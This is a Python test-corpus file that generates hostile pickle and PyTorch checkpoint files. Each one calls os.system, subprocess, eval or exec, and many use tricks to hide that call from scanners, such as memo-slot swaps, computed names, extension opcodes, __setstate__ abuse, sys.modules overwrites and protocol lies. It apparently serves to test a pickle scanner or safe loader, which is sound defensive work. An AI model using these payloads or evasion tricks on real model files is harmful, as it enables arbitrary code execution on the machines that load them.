"""Pickles: every gadget plainly, one call in every way that the format can write it, and streams that break late."""

from __future__ import annotations

import struct
from collections.abc import Callable
from functools import partial

from tests.corpus.hostile import torch_bytes
from tests.corpus.hostile.case import Target, case
from tests.corpus.hostile.gadgets import PROCESSES, SYSTEM, Value, attribute, module, nested
from tests.corpus.hostile.gadgets_evaluate import EVALUATORS
from tests.corpus.hostile.gadgets_files import FILES
from tests.corpus.hostile.gadgets_libraries import LIBRARIES
from tests.corpus.hostile.opcodes import (
    MARK,
    STOP,
    Built,
    Call,
    Global,
    Raw,
    call,
    emit,
    named,
    stack_global,
    stream,
    text,
)

Bytes = Callable[[Target], bytes]
IN_CHECKPOINTS = 3
"""Every which gadget is planted in a checkpoint too."""


def system(t: Target) -> Call:
    return call("os:system", t.shell)


def joined(t: Target, protocol: int) -> bytes:
    """``os.system`` the way that protocol 0 and 1 write it."""
    shell = t.shell.encode()
    argument = b"V" + shell + b"\n" if protocol == 0 else b"X" + struct.pack("<I", len(shell)) + shell
    return named(SYSTEM) + MARK + argument + b"tR."


def long_memo(t: Target) -> bytes:
    """The global is fetched from a memo slot, under a number that needs four bytes."""
    put = named(SYSTEM) + b"r" + struct.pack("<I", 70000) + b"0"
    return b"\x80\x02" + put + text("x") + b"0j" + struct.pack("<I", 70000) + emit((t.shell,)) + b"R."


def overwritten_memo(t: Target) -> bytes:
    """A memo slot holds a harmless word where a scanner looks, and another one where it is read."""
    put = text("collections") + b"q\x010" + text("os") + b"q\x010"
    name = text("OrderedDict") + b"q\x020" + text("system") + b"q\x020"
    return b"\x80\x04" + put + name + b"h\x01h\x02\x93" + emit((t.shell,)) + b"R."


def memo_strings(t: Target) -> bytes:
    """Module and name stand far from the STACK_GLOBAL that uses them, in memo slots."""
    far = text("os") + b"\x940" + text("system") + b"\x940" + emit([1, 2, {"a": "b"}]) + b"0"
    return b"\x80\x04" + far + b"h\x00h\x01\x93" + emit((t.shell,)) + b"R."


def popped_strings(t: Target) -> bytes:
    """Harmless words between the real ones are popped again."""
    names = text("os") + text("collections") + b"0" + text("system") + text("OrderedDict") + b"0"
    return b"\x80\x04" + names + b"\x93" + emit((t.shell,)) + b"R."


def duplicated(t: Target) -> bytes:
    """DUP and POP_MARK rearrange the stack before the call."""
    junk = MARK + emit("collections") + emit("OrderedDict") + b"1"
    return b"\x80\x02" + named(SYSTEM) + b"2" + junk + emit((t.shell,)) + b"R0" + emit(None) + STOP


def computed_name(t: Target) -> bytes:
    """The module's name is the result of a call: no literal spells it."""
    name = call("codecs:decode", "bf", "rot13")
    return stream(Call(stack_global(name, "system"), (t.shell,)))


def joined_name(t: Target) -> bytes:
    """The name is put together by ``str.join``."""
    name = Call(attribute("", "join"), (["sys", "tem"],))
    return stream(Call(stack_global("os", name), (t.shell,)))


def extension(t: Target) -> bytes:
    """EXT1: a name by number, registered by the pickle itself."""
    register = call("copyreg:add_extension", "os", "system", 77)
    return b"\x80\x02" + emit(register) + b"0\x82M" + emit((t.shell,)) + b"R."


def extension_four(t: Target) -> bytes:
    """EXT4, registered in the table of another module's alias."""
    register = call("copyreg:add_extension", "os", "system", 70001)
    return b"\x80\x02" + emit(register) + b"0\x84" + struct.pack("<i", 70001) + emit((t.shell,)) + b"R."


def setstate(t: Target) -> bytes:
    """BUILD: the state of a partial is what it calls."""
    made = call("functools:partial", Global("builtins", "print"))
    return stream(Call(Built(made, (SYSTEM, (t.shell,), {}, {}))))


def setstate_attribute(t: Target) -> bytes:
    """BUILD: an object's __setstate__ is first set to os.system, then called."""
    made = Built(call("types:SimpleNamespace"), {"__setstate__": SYSTEM})
    return stream(Built(made, t.shell))


def build_module(t: Target) -> bytes:
    """BUILD on a module: a harmless name is made to mean another function."""
    changed = Built(module("collections"), {"namedtuple": SYSTEM})
    return stream(changed, Call(Global("collections", "namedtuple"), (t.shell,)))


def setitem(t: Target) -> bytes:
    """SETITEM on sys.modules: ``collections`` becomes ``os``."""
    modules = attribute(module("sys"), "modules")
    put = Raw(emit(modules) + emit("collections_x") + emit(module("os")) + b"s")
    return stream(put, Call(Global("collections_x", "system"), (t.shell,)))


def appended(t: Target) -> bytes:
    """APPEND calls the method of an object that the pickle chose."""
    made = call("types:SimpleNamespace")
    owner = Built(made, {"append": SYSTEM})
    return stream(Raw(emit(owner) + emit(t.shell) + b"a"))


def added(t: Target) -> bytes:
    """ADDITEMS calls ``add`` of an object that the pickle chose."""
    owner = Built(call("types:SimpleNamespace"), {"add": SYSTEM})
    return stream(Raw(emit(owner) + MARK + emit(t.shell) + b"\x90"))


def dotted(t: Target) -> bytes:
    """A dotted name walks from an allowed module to another one."""
    return stream(Call(stack_global("torch", "os.system"), (t.shell,)))


def dotted_deep(t: Target) -> bytes:
    """A dotted name through torch's own imports."""
    return stream(Call(stack_global("torch._utils", "traceback.linecache.os.system"), (t.shell,)))


def dotted_allowed(t: Target) -> bytes:
    """The dotted name begins with an allowed function and ends in its globals."""
    held = stack_global("torch._utils", "_rebuild_tensor_v2.__globals__")
    builtins = Call(attribute(held, "get"), ("__builtins__",))
    return stream(Call(Call(attribute(builtins, "get"), ("exec",)), (t.code,)))


def frames(t: Target) -> bytes:
    """FRAME lengths that do not fit, as the pure Python reader tolerates them."""
    body = emit(system(t)) + STOP
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def second_pickle(t: Target) -> bytes:
    """A harmless pickle first, the payload in the one behind it; read in a loop."""
    inner = stream({"weights": [1, 2, 3]}) + nested(t)
    both = call("io:BytesIO", inner)
    return stream(
        Raw(emit(both) + b"\x94"),
        Call(Global("pickle", "load"), (Raw(b"h\x00"),)),
        Call(Global("pickle", "load"), (Raw(b"h\x00"),)),
    )


def protocol_lies(t: Target) -> bytes:
    """Announces protocol 2 and uses opcodes of protocol 4."""
    return b"\x80\x02" + emit(Call(stack_global("os", "system"), (t.shell,))) + STOP


def no_protocol(t: Target) -> bytes:
    """No PROTO at all: the first byte is an opcode."""
    return emit(system(t)) + STOP


def many_protocols(t: Target) -> bytes:
    """PROTO again and again, some of them in the middle."""
    return b"\x80\x02\x80\x04\x80\x03" + emit(system(t)) + b"\x80\x05" + STOP


def newline_name(t: Target) -> bytes:
    """INST with its arguments between mark and name."""
    return stream(call("os:system", t.shell, how="inst"), protocol=0)


def newobj(t: Target) -> bytes:
    """NEWOBJ calls ``__new__`` of a class that the pickle made."""
    new = call("functools:partial", Global("os", "makedirs"), t.canary, 0o777)
    return stream(Call(call("builtins:type", "X", (), {"__new__": new}), (), "newobj"))


def persistent_text(t: Target) -> bytes:
    """The payload hides in an argument of a persistent identifier, before that is refused."""
    return b"\x80\x02" + emit(system(t)) + b"Q."


TRICKS: dict[str, tuple[Bytes, str]] = {
    "protocol-0": (partial(joined, protocol=0), "protocol 0, text opcodes"),
    "protocol-1": (partial(joined, protocol=1), "protocol 1"),
    "protocol-2": (lambda t: stream(system(t), protocol=2), "protocol 2"),
    "protocol-3": (lambda t: stream(system(t), protocol=3), "protocol 3"),
    "protocol-5": (lambda t: stream(system(t), protocol=5), "protocol 5"),
    "stack-global": (lambda t: stream(Call(stack_global("os", "system"), (t.shell,))), "STACK_GLOBAL"),
    "inst": (newline_name, "INST"),
    "obj": (lambda t: stream(call("subprocess:call", t.argv, how="obj")), "OBJ"),
    "newobj": (newobj, "NEWOBJ of a class whose __new__ is another function"),
    "python2-name": (
        lambda t: stream(call("__builtin__:eval", t.code), protocol=2),
        "a name of Python 2, which the reader translates",
    ),
    "newobj-ex": (
        lambda t: stream(
            Call(Global("functools", "partial"), (SYSTEM, t.shell), "newobj_ex"), call("os:system", t.shell)
        ),
        "NEWOBJ_EX",
    ),
}
for _made in (
    long_memo, overwritten_memo, memo_strings, popped_strings, duplicated, computed_name, joined_name, extension,
    extension_four, setstate, setstate_attribute, build_module, setitem, appended, added, dotted, dotted_deep,
    dotted_allowed, frames, second_pickle, protocol_lies, no_protocol, many_protocols, persistent_text,
):  # fmt: skip
    TRICKS[_made.__name__.replace("_", "-")] = (_made, (_made.__doc__ or "").strip().rstrip("."))

BROKEN: dict[str, tuple[bytes, str]] = {
    "truncated": (b"", "no STOP: the stream ends after the payload"),
    "bad-opcode": (b"\xff", "an opcode that does not exist"),
    "underflow": (b"0000R.", "more is popped than there is"),
    "bad-memo": (b"h\xee.", "a memo slot that nobody filled"),
    "bad-utf8": (b"X\x04\0\0\0\xff\xfe\xfd\xfc.", "a string that is no UTF-8"),
    "huge-length": (b"B\xff\xff\xff\x7fabc", "a string of 2 GB, three bytes of it there"),
    "huge-length-64": (b"\x8e" + b"\xff" * 8 + b"abc", "a string of 2^64 bytes"),
    "bad-protocol": (b"\x80\xff.", "a protocol that does not exist"),
    "bad-int": (b"Inot a number\n.", "an integer that is none"),
    "missing-module": (b"cno_such_module\nx\n.", "a module that does not exist"),
    "no-mark": (b"t.", "a tuple without its mark"),
    "bad-frame": (b"\x95" + b"\xff" * 8 + b".", "a frame of 2^64 bytes"),
    "trailing": (b".trailing bytes", "bytes behind STOP"),
    "zero-bytes": (b"\0\0\0\0", "zeros after the payload"),
    "bad-long": (b"\x8b\xff\xff\xff\xff.", "an integer of negative length"),
}


def _payload(t: Target, value: Value) -> bytes:
    return stream(value(t))


def _planted(t: Target, value: Value) -> bytes:
    return torch_bytes.checkpoint(value(t), protocol=4)  # dotted names need it


def _broken(t: Target, tail: bytes) -> bytes:
    return b"\x80\x04" + emit(system(t)) + b"0" + tail


GADGETS = {
    "process": PROCESSES,
    "evaluate": EVALUATORS,
    "library": LIBRARIES,
    "file": FILES,
}
_count = 0
for _kind, _rows in GADGETS.items():
    for _key, _value in _rows.items():
        _what = f"{_kind}: {_key}"
        case(
            f"gadget-{_kind}-{_key}",
            "pickle",
            _what,
            "model.pkl",
            partial(_payload, value=_value),
            loader="pickle",
        )
        if _count % IN_CHECKPOINTS == 0:
            case(
                f"checkpoint-{_kind}-{_key}", "torch-zip", f"in a checkpoint, {_what}", "model.pt",
                partial(_planted, value=_value), loader="torch",
            )  # fmt: skip
        _count += 1
for _key, (_bytes, _what) in TRICKS.items():
    case(f"trick-{_key}", "pickle", _what, "model.pkl", _bytes, loader="pickle")
for _key, (_tail, _what) in BROKEN.items():
    case(
        f"broken-{_key}", "pickle", f"the payload runs, then: {_what}", "model.pkl",
        partial(_broken, tail=_tail), loader="pickle",
    )  # fmt: skip
